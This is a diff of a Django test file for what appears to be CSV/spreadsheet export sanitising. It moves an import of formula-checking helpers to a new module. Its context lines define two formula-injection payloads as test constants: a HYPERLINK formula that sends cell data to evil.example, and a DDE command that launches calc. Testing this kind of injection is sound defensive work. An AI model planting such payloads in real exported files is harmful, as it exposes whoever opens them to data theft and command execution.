@@ -4,8 +4,8 @@ import csv
 
 from django.core.management import call_command
 
+from directory.exchange.tabular import FORMULA_STARTS, read_cell, safe_cell
 from directory.models import Listing
-from directory.spreadsheet import FORMULA_STARTS, read_cell, safe_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 CALC = "+cmd|' /C calc'!A0"
